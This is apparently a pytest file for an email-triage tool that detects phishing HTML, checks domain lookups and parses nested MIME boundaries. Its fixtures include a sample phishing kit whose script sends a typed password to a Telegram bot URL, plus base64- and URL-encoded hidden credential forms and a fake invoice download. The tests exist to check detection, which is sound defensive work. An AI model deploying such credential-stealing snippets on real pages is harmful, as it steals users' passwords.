"""Static HTML reading, lookup rules, MIME boundaries, caveats."""

import base64
from urllib.parse import quote

from pyspark.sql import functions as F

from mailtriage.functions import htmlscan
from mailtriage.operators import correlate, lookups
from mailtriage.sources import mime

KIT = """<form><input type="password" name=p></form><script>fetch("https://api.telegram.org/bot1:A/sendMessage?text="+p.value);
location.href="https://login.example.com/";</script>"""


def test_kit_is_read():
    r = htmlscan.inspect(KIT)
    by = {d["url"].split("/")[2]: d for d in r["destinations"]}
    assert r["password_form"] and by["api.telegram.org"]["kind"] == "fetch" and by["api.telegram.org"]["service"] == "Telegram bot"
    assert by["login.example.com"]["kind"] == "redirect" and by["login.example.com"]["service"] is None


def test_hidden_layers_and_files():
    inner = '<form action="https://collect.kit.test/p.php"><input type=password></form>' + " " * 40
    for page in (f'<script>document.write(atob("{base64.b64encode(inner.encode()).decode()}"))</script>', f'<script>document.write(unescape("{quote(inner, safe="")}"))</script>'):
        r = htmlscan.inspect(page)
        assert r["password_form"] and r["hidden_layers"] == 1
        assert [(d["url"], d["kind"], d["hidden"]) for d in r["destinations"]] == [("https://collect.kit.test/p.php", "form target", True)]
    blob = base64.b64encode(b"PK\3\4" + b"\7" * 900).decode()
    assert htmlscan.inspect(f'var d="{blob}";a.download="Invoice.zip"')["payloads"] == [{"name": "Invoice.zip", "size": 904, "head": "504b030407070707"}]


def test_ordinary_pages_raise_nothing():
    r = htmlscan.inspect(f'<img src="data:image/png;base64,{"A" * 400}"><a href="https://example.com">x</a><a href="https://a.workers.dev/x">y</a>')
    assert not r["password_form"] and not r["payloads"] and not r["hidden_layers"] and not any(d["service"] for d in r["destinations"])
    assert htmlscan.inspect(None)["destinations"] == []


def test_inspected(spark):
    rows = {r.id: r for r in htmlscan.inspected(spark.createDataFrame([(1, KIT), (2, None)], "id int, html string"), "id", "html").collect()}
    assert rows[1].password_form and len(rows[1].destinations) == 2 and not rows[2].password_form


def test_lookups(spark):
    targets = spark.createDataFrame([("domain", "A.com"), ("domain", "a.com"), ("domain", "b.com"), ("domain", "-x"), ("ip", "10.0.0.1"), ("ip", "8.8.8.8"), ("domain", None)], "kind string, value string")
    answers = spark.createDataFrame([("domain", "b.com", True), ("ip", "8.8.8.8", False)], "kind string, value string, ok boolean")
    assert {tuple(r) for r in lookups.missing(targets, answers).collect()} == {("domain", "a.com"), ("ip", "8.8.8.8")}
    one = spark.range(1).select(lookups.reputation(F.lit(None).cast("int"), F.lit(0)).alias("a"), lookups.spf_strength(F.lit(None).cast("string")).alias("b"))
    assert tuple(one.first()) == (None, "missing")


def test_boundaries_stand_at_line_starts():
    body = "x\n--b\n\none --b inline\n--bc\n\ntwo\n--b\n\nthree\n--b--\nend\n--b\n\nfour"
    assert mime.parts_of(body, "b") == ["\none --b inline\n--bc\n\ntwo", "\nthree"]
    deep = "Content-Type: text/plain\n\nlast"
    for i in range(300):
        deep = f"Content-Type: multipart/mixed; boundary=q{i}q\n\n--q{i}q\n{deep}\n--q{i}q--\n"
    out = {"text": [], "html": [], "files": []}
    mime.walk(*mime.split_head(deep), out)
    assert "".join(out["text"]).strip() == "last"


def test_members(spark):
    long = spark.createDataFrame([(1, "url", "a"), (2, "url", "a"), (3, "url", "b")], "msg int, type string, value string")
    assert sorted((r.value, r.msg, r.n_messages) for r in correlate.members(long, correlate.shared(long)).collect()) == [("a", 1, 2), ("a", 2, 2)]
